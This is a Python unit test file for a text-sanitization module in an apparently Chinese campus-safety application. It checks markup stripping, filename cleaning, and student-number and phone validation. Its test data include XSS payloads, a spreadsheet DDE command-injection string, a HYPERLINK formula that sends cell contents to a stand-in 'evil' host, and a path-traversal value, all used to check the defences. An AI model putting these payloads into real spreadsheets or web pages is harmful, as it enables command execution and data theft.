from unittest import TestCase

from campus_safety.domain import plain_line
from campus_safety.tests.domain.table import rows


class TestPlainLine(TestCase):
	@rows(
		[
			(None, ""),
			("  软件技术 2401班\t", "软件技术 2401班"),
			("软件\x00技术\u200b2401班\ufeff", "软件技术2401班"),
			("𠮷野😀", "𠮷野😀"),
			("👨‍👩‍👧", "👨‍👩‍👧"),
			("a\nb", "a b"),
			("刘<img src=x onerror=alert(1)//", "刘＜img src=x onerror=alert(1)//"),
		],
	)
	def test_clean_line(self, text, clean):
		assert plain_line.clean_line(text) == clean

	@rows(
		[
			('=HYPERLINK("http://evil/"&A1,"x")', '\'=HYPERLINK("http://evil/"&A1,"x")'),
			("\t=1+1", "'\t=1+1"),
			("＝cmd", "'＝cmd"),
			("@SUM(1)", "'@SUM(1)"),
			("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
			("+SUM(A1)", "'+SUM(A1)"),
			("'=1", "'=1"),
			("+86 139 0000 1234", "+86 139 0000 1234"),
			("-5", "-5"),
			("- 已与家长联系", "- 已与家长联系"),
			("=", "="),
			("a=b", "a=b"),
			("", ""),
		],
	)
	def test_without_formula(self, text, kept):
		assert plain_line.without_formula(text) == kept

	@rows(
		[
			("体温<36", "体温＜36"),
			("<b>好</b> <img src=x", "<b>好</b> ＜img src=x"),
			("好\n<svg\nonload=x", "好\n＜svg\nonload=x"),
			("a < b > c", "a < b > c"),
		],
	)
	def test_without_open_tag(self, text, closed):
		assert plain_line.without_open_tag(text) == closed

	@rows(
		[
			(None, ""),
			("<b>好</b>", "好"),
			("好<img src=x onerror=alert(1)//", "好"),
			("好<svg\nonload=x", "好"),
			("<!-- x --->好<!-- y", "好"),
			("体温<36, 血压>90", "体温＜36, 血压＞90"),
			("<<b>img src=x>", "＜img src=x＞"),
		],
	)
	def test_without_markup(self, text, words):
		assert plain_line.without_markup(text) == words

	@rows(
		[
			("软件技术2401班", "软件技术2401班"),
			("软件/网络 2401", "软件-网络 2401"),
			("<b>x</b>", "b-x-b"),
			("../..", ""),
			("a" * 300, "a" * 120),
			("😀", "😀"),
		],
	)
	def test_name_of(self, text, name):
		assert plain_line.name_of(text) == name

	@rows(
		[
			("2024010101", True),
			("G37_01.2-3", True),
			("", False),
			("20 24", False),
			("学号1", False),
			("-1", False),
			("1" * 41, False),
			("a/b", False),
			("😀", False),
		],
	)
	def test_student_no(self, text, fine):
		assert plain_line.is_student_no(text) is fine

	@rows(
		[
			("13800001234", "13800001234", True),
			("138 0000 1234", "13800001234", True),
			("+86 138-0000-1234", "13800001234", True),
			("１３８００００１２３４", "13800001234", True),
			("0531-88880000 转 12", "0531-88880000 转 12", True),
			("+1 415 555 0100", "+1 415 555 0100", True),
			("没有", "没有", False),
			("123", "123", False),
		],
	)
	def test_telephone(self, text, number, fine):
		assert plain_line.telephone(text) == number
		assert plain_line.is_telephone(number) is fine
